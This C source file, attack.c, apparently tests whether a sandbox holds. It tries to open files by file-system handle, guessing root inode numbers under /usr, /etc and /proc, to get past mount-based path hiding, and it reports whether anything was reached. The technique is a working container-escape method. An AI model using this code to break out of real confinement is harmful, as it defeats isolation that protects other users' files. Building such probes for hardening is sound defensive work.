/* attack.c - opens files by handle, which is by number and past every path
 *
 * Mounting a part of a file system hides the rest from paths only. If it worked, a program could reach every file of
 * the disk on which /usr lies. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

struct handle {
    unsigned bytes;
    int type;
    unsigned char id[128];
};

static int reached;

static int attempt(const char *what, int mount_fd, struct handle *handle)
{
    char text[256];
    int fd = (int)syscall(SYS_open_by_handle_at, mount_fd, handle, O_RDONLY);
    ssize_t got;

    printf("%s: %s\n", what, fd < 0 ? strerror(errno) : "reached");
    if (fd < 0)
        return -1;
    reached = 1;
    got = read(fd, text, sizeof(text));
    if (got > 0)
        printf("%.*s\n", (int)got, text);
    return close(fd);
}

int main(int argc, char **argv)
{
    static const char *const places[] = {"/usr", "/etc/alternatives", "/etc/ld.so.cache", "/etc/java", "/work", "/proc"};
    const char *control = getenv("DRILL_CONTROL");
    struct handle handle = {.bytes = sizeof(handle.id)};
    int mount_id, top;

    if (argc < 2)
        return 1;
    if (syscall(SYS_name_to_handle_at, AT_FDCWD, argv[1], &handle, &mount_id, 0) < 0)
        printf("%s: %s\n", argv[1], strerror(errno));
    else
        (void)attempt(argv[1], open("/", O_RDONLY | O_DIRECTORY), &handle);
    if (control)
        return reached ? 10 : 77;

    for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
        handle.bytes = sizeof(handle.id);
        top = open(places[i], O_RDONLY);
        if (syscall(SYS_name_to_handle_at, AT_FDCWD, places[i], &handle, &mount_id, 0) == 0) {
            printf("%s: reached, it has a handle\n", places[i]);
            reached = 1;
        }
        /* the kinds of number that common file systems use for their top folder: 2, 64, 128, 256 */
        for (unsigned inode = 2; inode <= 256; inode = inode == 2 ? 64 : inode * 2) {
            struct handle guess = {.bytes = 8, .type = 1};
            memcpy(guess.id, &inode, sizeof(inode));
            (void)attempt(places[i], top, &guess);
        }
        (void)close(top);
    }
    (void)attempt("working folder", AT_FDCWD, &handle);
    return reached ? 10 : 0;
}
